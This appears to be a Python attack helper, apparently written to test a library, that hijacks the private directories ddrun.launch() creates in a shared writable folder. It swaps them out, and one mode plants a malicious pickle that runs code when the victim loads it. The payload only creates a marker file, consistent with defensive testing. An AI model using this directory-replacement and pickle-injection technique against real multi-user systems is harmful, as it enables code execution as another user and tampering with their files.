"""launch_attacker.py KIND DIRECTORY VICTIM MARK: attack the private directories of ddrun.launch() in a directory that all can write to.

plant   put a directory in the place of each, with a pickle that creates the file MARK where it is loaded
swap    once MARK exists, put the victim's directory "precious" in the place of one
Prints "ready", and "done" when it has replaced a directory. It runs until it is killed.
"""

import os
import pickle
import sys
import time

kind, top, victim, mark = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]


class Evil:
    def __reduce__(self):
        return os.mknod, (mark,)


def directories():
    """Return the paths of the victim's directories."""
    found = [os.path.join(top, name) for name in os.listdir(top) if name.startswith(".ddrun-")]
    return [path for path in found if os.lstat(path).st_uid == victim]


def plant(path):
    """Replace the directory, and the file of the call whenever the victim has written it."""
    os.rename(path, f"{top}/moved")
    os.mkdir(path)
    os.chmod(path, 0o777)
    print("done", flush=True)
    while True:
        with open(f"{path}/evil", "wb") as f:
            pickle.dump(Evil(), f)
        os.replace(f"{path}/evil", f"{path}/call")
        time.sleep(0.001)


def swap(path):
    os.rename(path, f"{top}/moved")
    os.rename(f"{top}/precious", path)
    print("done", flush=True)
    time.sleep(3600)


print("ready", flush=True)
while True:
    if kind == "plant" or os.path.exists(mark):
        for found in directories():
            (plant if kind == "plant" else swap)(found)
